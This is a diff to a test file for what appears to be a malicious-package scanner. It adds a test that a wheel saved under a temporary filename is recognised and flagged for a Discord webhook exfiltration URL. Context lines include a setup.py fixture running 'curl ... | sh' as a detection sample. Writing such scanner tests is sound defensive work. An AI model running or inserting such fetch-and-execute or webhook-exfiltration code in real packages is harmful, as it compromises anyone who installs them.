@@ -96,6 +96,20 @@ def test_a_wheel_named_as_an_sdist_is_read_as_the_zip_it_is(tmp_path):
     assert "exfil-webhook" in rules_of(scan(path))
 
 
+def test_a_temporary_file_is_read_as_the_distribution_it_is_named_for(tmp_path):
+    from bastion.core.scanning.reading import open_sample
+    from bastion.core.scanning.budget import Budget
+
+    from .support import wheel
+
+    path = wheel(tmp_path, {"demo/core.py": "URL = 'https://discord.com/api/webhooks/1/x'\n"},
+                 filename="upload-proxy-x1.part")
+    assert open_sample(path, Budget()).kind == "sdist"  # a zip named like nothing
+    assert open_sample(path, Budget(), "demo-1.0-py3-none-any.whl").kind == "wheel"
+    result = scan(path, name="demo-1.0-py3-none-any.whl")
+    assert "exfil-webhook" in rules_of(result) and result.path == path
+
+
 def test_a_directory_is_scanned_like_an_unpacked_sdist(tmp_path):
     (tmp_path / "demo").mkdir()
     (tmp_path / "setup.py").write_text("import os\nos.system('curl -s http://example.invalid | sh')\n")
